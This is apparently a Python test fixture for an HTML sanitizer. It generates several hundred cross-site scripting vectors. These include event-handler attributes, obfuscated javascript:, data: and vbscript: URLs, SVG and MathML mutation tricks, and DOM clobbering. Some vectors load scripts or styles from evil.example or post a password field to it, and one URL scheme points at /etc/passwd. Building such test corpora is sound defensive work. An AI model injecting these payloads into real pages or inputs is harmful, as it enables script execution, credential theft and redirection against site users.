"""Markup that runs scripts or asks others where a cleaner lets it through: `X` calls the script that must not run."""

X = "window.top.ran=1"
_EVENTS = (
    "onabort onafterprint onanimationend onanimationstart onauxclick onbeforetoggle onblur oncanplay oncopy onclick oncut"
    " ondblclick ondrag onended onerror onfocus onfocusin onhashchange oninput oninvalid onkeydown onload onloadstart"
    " onmousedown onmouseenter onmouseover onmouseup onpageshow onpaste onpointerenter onpointerover onpointerrawupdate"
    " onresize onscroll onscrollend onsearch onselect onstart onsubmit ontoggle ontouchstart ontransitionend onunload"
    " onvolumechange onwheel"
).split()
_SCHEMES = (
    "javascript:", "JavaScript:", "JAVASCRIPT:", "java\tscript:", "java\nscript:", "java\rscript:", " javascript:", "\x01javascript:",
    "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:",
    "j&Tab;avascript:", "java&NewLine;script:", "javascript&#x0000000003A", "\u200bjavascript:", "\ufeffjavascript:", "vbscript:", "livescript:",
    "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=X>", "blob:x", "filesystem:x",
    "javascript://x/%0a", "javascript:/*http://a.cn/*/", "//javascript:", "view-source:javascript:", "feed:javascript:", "jar:x!/", "about:blank#",
    "mhtml:x", "file:///etc/passwd", "ws://x/", "intent://x", "\\\\javascript:", "jаvascript:",
)  # fmt: skip
_IN_TAGS = (
    '<svg><script>X</script></svg>', '<svg onload=X>', '<svg><a xlink:href="javascript:X"><text>x</text></a></svg>',
    '<svg><animate xlink:href=#a attributeName=href values=javascript:X /><a id=a><text>x</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="X"/></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=X>#x"/></svg>',
    '<svg><foreignObject><img src=x onerror=X></foreignObject></svg>', '<svg><style><img src=x onerror=X></style></svg>',
    '<svg><title><style><img src=x onerror=X></style></title></svg>', '<svg></p><style><a id="</style><img src=1 onerror=X>">',
    '<svg><desc><noscript></desc><img src=x onerror=X></noscript>', '<svg><image href=x onerror=X>', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">X</handler></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=X&gt;">',
    '<math><mi//xlink:href="data:x,<script>X</script>">', '<math href="javascript:X">x</math>', '<math><maction actiontype="statusline#http://a" xlink:href="javascript:X">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=X></annotation-xml></math>', '<math><mtext><img src=x onerror=X></mtext></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>',
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=X src=1>">',
    '<noscript><p title="</noscript><img src=x onerror=X>">', '<template><img src=x onerror=X></template>', '<template><script>X</script></template>',
    '<style>@import "javascript:X";</style>', '<style>*{background:url(javascript:X)}</style>', '<style><img src="</style><img src=x onerror=X>">',
    '<style>\\40 import "http://evil.example/x.css"</style>', '<p style="width:expression(X)">x</p>', '<p style="background:url(http://evil.example/x)">x</p>',
    '<p style="-moz-binding:url(http://evil.example/x#x)">x</p>', '<p style="behavior:url(x.htc)">x</p>', '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<iframe src="javascript:X"></iframe>', '<iframe srcdoc="<script>X</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror=X&gt;"></iframe>',
    '<iframe src="data:text/html,<script>X</script>"></iframe>', '<iframe/onload=X>', '<frameset onload=X><frame src="javascript:X"></frameset>',
    '<object data="javascript:X"></object>', '<object data="data:text/html,<script>X</script>"></object>', '<object type="text/x-scriptlet" data="x"></object>',
    '<embed src="javascript:X">', '<embed src="data:image/svg+xml,<svg onload=X>">', '<applet code="x"></applet>', '<portal src="javascript:X">',
    '<base href="http://evil.example/">', '<base href="javascript:X//">', '<base target="_blank" onclick=X>', '<link rel=stylesheet href="http://evil.example/x.css">',
    '<link rel=import href="data:text/html,<script>X</script>">', '<link rel=preload as=script href="http://evil.example/x.js" onload=X>',
    '<meta http-equiv=refresh content="0;url=javascript:X">', '<meta http-equiv=refresh content="0;url=http://evil.example/">', '<meta http-equiv=set-cookie content="a=b">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">', '<meta charset=utf-7>+ADw-script+AD4-X+ADw-/script+AD4-',
    '<form action="javascript:X"><input type=submit>', '<form action="http://evil.example/"><input name=password></form>', '<button formaction="javascript:X">x</button>',
    '<form id=x></form><button form=x formaction="javascript:X">x</button>', '<input onfocus=X autofocus>', '<input type=image src=x onerror=X>',
    '<select autofocus onfocus=X><option>x</select>', '<textarea autofocus onfocus=X></textarea>', '<keygen autofocus onfocus=X>', '<isindex type=image src=1 onerror=X>',
    '<img src=x onerror=X>', '<img src=x onerror="X"', '<img src="x` `<script>X</script>"` `>', '<img """><script>X</script>">', '<img src=x:x onerror=X//', '<image src=x onerror=X>',
    '<img/src=x/onerror=X>', '<img\x0csrc=x\x0conerror=X>', '<img src=x\tonerror\t=\tX>', '<img src=1 srcset="javascript:X 1x, x 2x" onerror=X>', '<img srcset="x onerror=X">',
    '<img lowsrc="javascript:X">', '<img dynsrc="javascript:X">', '<img src="http://a.cn/x.png" usemap="#m"><map name=m><area shape=default href="javascript:X"></map>',
    '<img src=x onerror\x00=X>', '<img src=x one\x00rror=X>', '<im\x00g src=x onerror=X>', '<scr\x00ipt>X</scr\x00ipt>', '<img alt="<x" title="/><img src=x onerror=X>">',
    '<script>X</script>', '<SCRIPT>X</SCRIPT>', '<script/x>X</script>', '<script src="http://evil.example/x.js"></script>', '<script src=data:,X></script>', '<<script>X//<</script>',
    '<script>X', '<scr<script>ipt>X</scr</script>ipt>', '<script\n>X</script\n>', '</script><script>X</script>', '<script type=module>X</script>', '<script><!--<script>X</script>',
    '<script>/*<![CDATA[*/X/*]]>*/</script>', '\u003cscript\u003eX\u003c/script\u003e', '＜script＞X＜/script＞', '&lt;script&gt;X&lt;/script&gt;', '&amp;lt;script&amp;gt;X',
    '<!--><img src=x onerror=X>-->', '<!-- --!><img src=x onerror=X>-->', '<!--<img src="--><img src=x onerror=X>//">', '<!---><script>X</script>', '<!--[if gte IE 4]><script>X</script><![endif]-->',
    '<![CDATA[<img src=x onerror=X>]]>', '<?xml version="1.0"?><img src=x onerror=X>', '<?xml-stylesheet href="javascript:X"?>', '<!DOCTYPE x [<!ENTITY y "<script>X</script>">]>&y;', '<!x="><img src=x onerror=X>">',
    '<%<img src=x onerror=X>%>', '<x onclick=X>x</x>', '<x-y onclick=X>x</x-y>', '<a href=x onclick=X>x</a>', '<a href="x" style="x" onmouseover=X>x', '<a id=location href="x">x</a>', '<a href="http://a.cn/" target=_blank ping="http://evil.example/">x</a>',
    '<a href="http://a.cn/&quot;onclick=X&quot;">x</a>', '<a href=\'http://a.cn/" onclick=X "\'>x</a>', '<a href="http://a.cn/`onclick=X`">x</a>', '<a href=`http://a.cn/`onclick=X>x</a>',
    '<p id=body name=cookie>x</p>', '<form name=getElementById><input name=attributes></form>', '<img name=querySelector src="http://a.cn/x.png">', '<a id=defaultView><a id=defaultView name=ran href="x:X">', '<iframe name=top></iframe>',
    '<p class="x" data-x="X" aria-label="<img src=x onerror=X>">x</p>', '<div contenteditable onfocus=X tabindex=1 autofocus>x</div>', '<p dir=rtl onclick=X accesskey=x>x</p>',
    '<table background="javascript:X"><tr><td background="javascript:X">x</table>', '<body onload=X background="javascript:X">', '<html manifest="http://evil.example/">', '<bgsound src="javascript:X">', '<layer src="x">', '<marquee onstart=X>x</marquee>',
    '<video><source onerror=X></video>', '<video poster="javascript:X" src=x onerror=X></video>', '<audio src=x onerror=X></audio>', '<picture><source srcset="x"><img onerror=X src=x></picture>', '<track src="javascript:X">', '<details open ontoggle=X>x</details>', '<dialog open onclose=X>x</dialog>',
    '<xml id=x><x>X</x></xml>', '<xss id=x tabindex=1 onactivate=X></xss>', '<plaintext><img src=x onerror=X>', '<xmp><p title="</xmp><img src=x onerror=X>"></xmp>', '<listing>&lt;img src=x onerror=X&gt;</listing>', '<title><img src=x onerror=X></title>', '<textarea><img src=x onerror=X></textarea>',
    '<noembed><img title="</noembed><img src onerror=X>"></noembed>', '<noframes><p title="</noframes><img src=x onerror=X>"></noframes>', '<select><style><img src=x onerror=X></style></select>', '<select><template><img src=x onerror=X></template></select>',
    '<p><svg><p><style><a title="</style><img src onerror=X>"></a>', '<a><table><a><table><a href="javascript:X">x', '<b><i></b><img src=x onerror=X></i>', '<table><svg><tr><td><img src=x onerror=X>', '<div><table><form action="javascript:X"></div><input type=submit>',
    '<option><style></option></select><b><img src=xx: onerror=X></style></option>', '<font color="red" face="x" onclick=X>x</font>', '<center onclick=X>x</center>', '<col width="1" onclick=X>', '<td colspan="2" onclick=X>x</td>', '<h1 onclick=X>x</h1>',
    '<img src="http://a.cn/x.png" width="1" height="1" loading=lazy onload=X>', '<img data-src="javascript:X" data-original="data:text/html,X" src="vbscript:X">', '<figure><figcaption onclick=X>x</figcaption></figure>', '\u2028<img src=x onerror=X>', '<ı onclick=X>', '<ſcript>X</ſcript>', '<K onclick=X>',
)  # fmt: skip


def vectors():
    """All of them, each whole."""
    for event in _EVENTS:
        yield f'<p {event}="{X}" {event.upper()}={X}>x</p><img src=x {event}={X}>'
    for scheme in _SCHEMES:
        yield f'<a href="{scheme}{X}">x</a><img src="{scheme}{X}"><q cite="{scheme}{X}">x</q>'.replace("X>", f"{X}>")
    yield from (each.replace("X", X) for each in _IN_TAGS)
